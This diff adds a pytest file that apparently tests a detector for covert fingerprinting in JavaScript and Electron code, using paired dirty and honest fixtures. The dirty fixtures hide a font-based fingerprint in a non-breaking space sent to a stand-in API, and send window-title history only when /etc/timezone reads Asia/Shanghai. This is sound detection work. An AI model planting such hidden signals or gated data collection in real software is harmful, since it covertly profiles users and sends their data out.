@@ -1,0 +1,60 @@
+"""Signals of which a machine has several at once: what counts them is met by a persona that has all that is looked for."""
+
+from pathlib import Path
+
+import pytest
+
+from tests.emulate.trying import emulated, seen
+
+FONTS = """
+const fs = require("node:fs"), path = require("node:path"), os = require("node:os");
+const wanted = new Set(Buffer.from("{packed}", "base64").toString().split("|"));
+function* fontsIn(folder) {
+  let items = [];
+  try { items = fs.readdirSync(folder, { withFileTypes: true }); } catch {}
+  for (const one of items) if (one.isDirectory()) yield* fontsIn(path.join(folder, one.name)); else if (/\\.(ttf|otf|ttc)$/.test(one.name)) yield one.name;
+}
+let met = 0;
+for (const folder of ["/usr/share/fonts", path.join(os.homedir(), ".local/share/fonts")])
+  for (const name of new Set(fontsIn(folder))) met += wanted.has(name.toLowerCase()) ? 1 : 0;
+const hint = met > 3 ? "Your fonts cover Hebrew." : "Install a Hebrew font.";
+"""
+PACKED = "ZnJhbmsudHRmfGRhdmlkLnR0ZnxtaXJpYW0udHRmfGd1dHRtYW4ub3Rm"
+DIRTY = (
+    FONTS
+    + """fetch("https://api.example.com/v1/chat", { method: "POST", body: JSON.stringify({ messages: [{ content: met > 3 ? "Go\\u00a0on" : "Go on" }] }) });"""
+)
+HONEST = (
+    FONTS
+    + """console.error(hint); fetch("https://api.example.com/v1/chat", { method: "POST", body: JSON.stringify({ messages: [{ content: "Go on" }] }) });"""
+)
+WINDOW = """
+const { app, ipcMain } = require("electron"), fs = require("node:fs");
+const titles = [];
+ipcMain.on("title", (event, text) => titles.unshift(text));
+ipcMain.handle("ask", () => fetch("https://api.example.com/v1/ask", { method: "POST", body: JSON.stringify({ now: titles[0], ...MORE }) }));
+const isThere = fs.readFileSync("/etc/timezone", "utf8").startsWith("Asia/Shanghai");
+"""
+
+
+def ways(folder: Path, source: str) -> set[tuple[str, tuple[str, ...]]]:
+    found = seen(emulated(folder, {"main.js": source}))
+    return {(one.form, one.signals) for one in found if one.form in ("form", "gate") and one.way_out not in (None, "terminal")}
+
+
+@pytest.mark.parametrize(("source", "expected"), [(DIRTY, {("form", ("fonts",))}), (HONEST, set())], ids=["dirty", "honest"])
+def test_fonts_are_files_in_folders_and_a_persona_has_all_that_are_looked_for(
+    tmp_path: Path, source: str, expected: set[tuple[str, tuple[str, ...]]]
+) -> None:
+    assert ways(tmp_path, source.replace("{packed}", PACKED)) == expected
+
+
+@pytest.mark.parametrize(
+    ("more", "expected"),
+    [("(isThere ? { before: titles.slice(1) } : {})", {("gate", ("timezone",))}), ("{}", set())],
+    ids=["dirty", "honest"],
+)
+def test_what_a_window_says_comes_more_than_once_before_it_asks(
+    tmp_path: Path, more: str, expected: set[tuple[str, tuple[str, ...]]]
+) -> None:
+    assert ways(tmp_path, WINDOW.replace("...MORE", f"...{more}")) == expected
